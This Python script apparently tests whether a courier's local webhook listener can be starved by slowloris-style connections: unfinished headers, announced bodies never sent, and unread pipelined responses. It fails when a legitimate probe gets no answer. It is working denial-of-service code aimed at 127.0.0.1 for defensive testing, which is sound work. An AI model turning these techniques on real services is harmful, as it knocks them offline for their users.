"""Occupies the webhook listener of a courier without a valid signature.

usage: hold_webhooks.py bodies|heads|responses PORT

  bodies     requests that announce large bodies and never send them
  heads      requests whose head never ends
  responses  many requests per connection, whose responses are never read

Exits with 1 when the attack has succeeded: another client gets no answer.
"""

import json
import resource
import socket
import sys
import time

kind, port = sys.argv[1], int(sys.argv[2])
# More than the listener serves at the same time, from more than one address.
CONNECTIONS = 1040
PER_ADDRESS = 400
# Longer than every deadline of the courier.
PATIENCE = 60

_, most = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 4096), most))
SIGNED = (
    b"POST /webhooks/ci HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    b"webhook-id: 1\r\nwebhook-timestamp: %d\r\nwebhook-signature: v1,AAAA\r\n" % time.time()
)


def connect(number):
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.bind((f"127.0.0.{2 + number // PER_ADDRESS}", 0))
    client.settimeout(PATIENCE)
    client.connect(("127.0.0.1", port))
    return client


def send(client):
    if kind == "bodies":
        client.sendall(SIGNED + b"Content-Length: 8388608\r\n\r\n{")
    elif kind == "heads":
        client.sendall(SIGNED)
    else:
        client.setblocking(False)
        requests = b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n" * 1000
        try:
            for _ in range(20):
                client.sendall(requests)
        except OSError:
            pass


def probe(body):
    """Sends a request as another client. Returns the status of the answer."""
    client = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
    client.sendall(SIGNED + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    answer = client.recv(65536)
    return int(answer.split(b" ")[1]) if answer else None


clients = []
for number in range(40 if kind == "bodies" else CONNECTIONS):
    clients.append(connect(number))
    send(clients[-1])
body = json.dumps({"text": "x" * 200_000}).encode()
try:
    # 401: the courier has read the body, and the signature is wrong.
    statuses = [probe(body) for _ in range(3)]
except OSError as error:
    statuses = [repr(error)]
print(statuses, flush=True)
sys.exit(0 if statuses == [401] * 3 else 1)
